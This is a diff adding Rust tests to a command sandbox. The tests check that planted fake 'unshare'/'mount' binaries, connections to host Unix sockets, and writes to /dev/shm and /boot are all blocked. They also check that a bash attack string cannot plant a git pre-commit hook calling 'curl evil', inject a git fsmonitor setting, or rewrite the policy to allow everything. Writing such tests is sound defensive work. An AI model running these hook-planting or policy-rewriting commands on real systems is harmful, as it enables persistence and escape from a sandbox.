@@ -16,6 +16,7 @@ async fn sh(script: &str, timeout: Duration, max_output_bytes: usize) -> Collect
         timeout,
         max_output_bytes,
         extra_env: Vec::new(),
+        writable_git: false,
     };
     Sandbox::from_env()
         .run_collected(&spec)
@@ -266,5 +267,152 @@ async fn home_folders_are_hidden_but_toolchains_still_work() {
         ran.stdout.contains("cargo "),
         "cargo still runs: {}",
         ran.stderr
+    );
+}
+
+#[tokio::test]
+async fn a_planted_unshare_or_mount_on_path_changes_nothing() {
+    // An attacker's folder first on PATH (as an activated .venv/bin would be), holding fake
+    // `unshare` and `mount` that would run on the host with the network and leave a mark.
+    let dir = tempfile::tempdir().unwrap();
+    let bin = dir.path().join("bin");
+    let mark = dir.path().join("escaped");
+    std::fs::create_dir(&bin).unwrap();
+    for tool in ["unshare", "mount"] {
+        let path = bin.join(tool);
+        std::fs::write(
+            &path,
+            format!(
+                "#!/bin/sh\ntouch {}\nexec /bin/sh -c 'echo planted'\n",
+                mark.display()
+            ),
+        )
+        .unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let sandbox = Sandbox::from_env();
+    assert!(sandbox.probe().available);
+    let spec = CommandSpec {
+        argv: ["/bin/sh", "-c", "cat /proc/net/dev; echo \"PATH=$PATH\""]
+            .map(String::from)
+            .to_vec(),
+        cwd: dir.path().to_owned(),
+        timeout: Duration::from_secs(30),
+        max_output_bytes: 1 << 20,
+        extra_env: vec![("PATH".into(), format!("{}:/usr/bin:/bin", bin.display()))],
+        writable_git: false,
+    };
+    let collected = sandbox.run_collected(&spec).await.unwrap();
+    assert!(!mark.exists(), "a planted program ran on the host");
+    assert!(
+        !collected.stdout.contains("planted"),
+        "{}",
+        collected.stdout
+    );
+    let interfaces: Vec<&str> = collected
+        .stdout
+        .lines()
+        .skip(2)
+        .take_while(|l| l.contains('|') || l.contains(':'))
+        .filter_map(|l| l.split(':').next().map(str::trim))
+        .filter(|n| !n.starts_with("PATH="))
+        .collect();
+    assert_eq!(interfaces, ["lo"], "{}", collected.stdout);
+    assert!(
+        collected
+            .stdout
+            .contains(&format!("PATH={}:/usr/bin:/bin", bin.display())),
+        "the command keeps its own PATH: {}",
+        collected.stdout
+    );
+    // A program that does not build the namespaces is never taken for the sandbox.
+    let fake = Sandbox::with_program(bin.join("unshare")).probe();
+    assert!(!fake.available, "{}", fake.detail);
+    let resolved = airlock_appliance::sandbox::resolve_system_program("unshare").unwrap();
+    assert!(
+        resolved.starts_with("/usr") || resolved.starts_with("/bin"),
+        "{}",
+        resolved.display()
+    );
+}
+
+#[tokio::test]
+async fn shared_memory_run_and_host_unix_sockets_are_out_of_reach() {
+    // A Unix socket the host listens on under /run (where docker.sock and session buses live).
+    let socket_path =
+        std::path::PathBuf::from(format!("/run/airlock-test-{}.sock", std::process::id()));
+    let _ = std::fs::remove_file(&socket_path);
+    let listener = std::os::unix::net::UnixListener::bind(&socket_path).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let shm_mark = format!("/dev/shm/airlock-test-{}", std::process::id());
+    let script = format!(
+        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{}\")' && echo CONNECTED; \
+         echo x > {shm_mark} && echo SHM_WRITTEN; touch /boot/x 2>/dev/null && echo BOOT_WRITTEN; echo done",
+        socket_path.display()
+    );
+    let out = quick(&script).await;
+    let _ = std::fs::remove_file(&socket_path);
+    assert!(out.stdout.contains("done"), "{} {}", out.stdout, out.stderr);
+    assert!(
+        !out.stdout.contains("CONNECTED"),
+        "reached a host Unix socket: {}",
+        out.stdout
+    );
+    assert!(
+        listener.accept().is_err(),
+        "the host socket saw a connection"
+    );
+    assert!(
+        !std::path::Path::new(&shm_mark).exists(),
+        "a write to /dev/shm reached the host"
+    );
+    assert!(!out.stdout.contains("BOOT_WRITTEN"));
+}
+
+#[tokio::test]
+async fn commands_cannot_plant_git_hooks_or_rewrite_the_policy() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
+    std::fs::write(dir.path().join(".git/config"), "[core]\n").unwrap();
+    std::fs::create_dir_all(dir.path().join(".airlock")).unwrap();
+    std::fs::write(dir.path().join(".airlock/policy.toml"), "# policy\n").unwrap();
+    let attack = "printf '#!/bin/sh\\ncurl evil' > .git/hooks/pre-commit; \
+                  printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .git/config; \
+                  echo 'allow = [\"*\"]' >> .airlock/policy.toml; \
+                  echo ok > normal.txt; echo done";
+    let spec = CommandSpec {
+        argv: ["/bin/bash", "--noprofile", "--norc", "-c", attack]
+            .map(String::from)
+            .to_vec(),
+        cwd: dir.path().to_owned(),
+        timeout: Duration::from_secs(30),
+        max_output_bytes: 1 << 20,
+        extra_env: Vec::new(),
+        writable_git: false,
+    };
+    let out = Sandbox::from_env().run_collected(&spec).await.unwrap();
+    assert!(out.stdout.contains("done"), "{} {}", out.stdout, out.stderr);
+    assert!(
+        !dir.path().join(".git/hooks/pre-commit").exists(),
+        "a hook was planted"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join(".airlock/policy.toml")).unwrap(),
+        "# policy\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.path().join("normal.txt")).unwrap(),
+        "ok\n",
+        "the workspace stays writable"
+    );
+    assert!(
+        out.stderr.contains("Read-only file system"),
+        "{}",
+        out.stderr
     );
 }
